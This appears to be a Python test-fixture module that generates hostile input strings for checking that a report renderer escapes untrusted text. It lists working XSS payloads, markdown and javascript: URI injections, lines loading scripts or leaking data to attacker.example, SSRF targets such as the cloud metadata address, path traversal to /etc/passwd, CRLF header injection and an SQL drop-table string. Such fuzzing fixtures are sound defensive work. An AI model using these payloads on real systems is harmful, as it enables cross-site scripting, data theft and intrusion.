"""Hostile texts: what a document, its name or a model may contain to attack the reader of a report."""

import random
from collections.abc import Iterator, Sequence

MARKER = "window.attacked=1"
"""The script of every attack. A page that runs any of them can be recognized by it."""

SCRIPTS = (
    "<script>{x}</script>",
    "</title><script>{x}</script>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "<img src=x onerror={x}>",
    '"><img src=x onerror="{x}">',
    "'><svg/onload={x}>",
    '" onmouseover="{x}" autofocus onfocus="{x}',
    '<iframe srcdoc="<script>parent.{x}</script>"></iframe>',
    "<iframe src=javascript:{x}></iframe>",
    "<object data=javascript:{x}></object>",
    "<form action=https://attacker.example/><button autofocus>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<base href=https://attacker.example/>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>@import 'https://attacker.example/x.css';*{{background:url(https://attacker.example/p)}}</style>",
    "<video><source onerror={x}></video>",
    "<details open ontoggle={x}>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title=--&gt;&lt;img src=x onerror={x}&gt;>",
    "<template><script>{x}</script></template>",
    "<!--><script>{x}</script>-->",
    "]]><script>{x}</script>",
    "\\u003cscript\\u003e{x}\\u003c/script\\u003e",
    "&lt;script&gt;{x}&lt;/script&gt;",
    "&#60;script&#62;{x}&#60;/script&#62;",
    "%3Cscript%3E{x}%3C/script%3E",
    "{{{{constructor.constructor('{x}')()}}}}",
    "${{{x}}}",
)
MARKDOWN = (
    "[click](javascript:{x})",
    "![image](https://attacker.example/pixel.png)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==)",
    "<javascript:{x}>",
    "[a]: javascript:{x}\n\n[a]",
    "# Heading\n\n* list\n* <b>bold</b>",
    "`code` ~~~\n<script>{x}</script>\n~~~",
    "| a | b |\n|---|---|\n| <img src=x onerror={x}> | 2 |",
    "https://attacker.example/?q={x}",
)
ADDRESSES = (
    "javascript:{x}",
    "JaVaScRiPt:{x}",
    " javascript:{x}",
    "java\tscript:{x}",
    "data:text/html,<script>{x}</script>",
    "vbscript:{x}",
    "file:///etc/passwd",
    "https://user:password@attacker.example/",
    "https://attacker.example\\@trusted.example/",
    "http://127.0.0.1:5432/",
    "http://169.254.169.254/latest/meta-data",
    "http://intranet.local/secret",
    "//attacker.example/",
)
CHARACTERS = (
    "\u202etxt.exe\u202c",
    "\u2066\u2067\u2068nested\u2069",
    "\u200b\u200c\u200d\ufeffinvisible",
    "p\u0430ypal.com and \u0440\u0430\u0443\u0440\u0430\u04cf.com",
    "a" * 3_000,
    "\u0e01" + "\u0e49" * 200,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d"
    * 10,
    "\x1b[31mred\x1b[0m \x07 \x08 \x7f",
    "null \\x00 \\u0000 %00 &#0;",
    "\ufffe\uffff \ud7ff",
    "\r\nSet-Cookie: stolen=1\r\n\r\n<script>{x}</script>",
    "\u2028\u2029line ends",
    "'; drop table app.run; --",
    "../../../../etc/passwd",
    "CON.txt:stream",
)


def list_hostile_texts(count: int, seed: int = 0) -> Sequence[str]:
    """Return as many different hostile texts: each attack alone, then combinations of them."""
    attacks = [one.replace("{x}", MARKER).replace("{{", "{").replace("}}", "}") for one in _list_attacks()]
    texts = dict.fromkeys(attacks)
    chooser = random.Random(seed)
    while len(texts) < count:
        parts = chooser.sample(attacks, chooser.randint(2, 3))
        texts[chooser.choice(("", " ", "\n", '"', "'", ">")).join(parts)] = None
    return list(texts)[:count]


def _list_attacks() -> Iterator[str]:
    yield from (*SCRIPTS, *MARKDOWN, *ADDRESSES, *CHARACTERS)
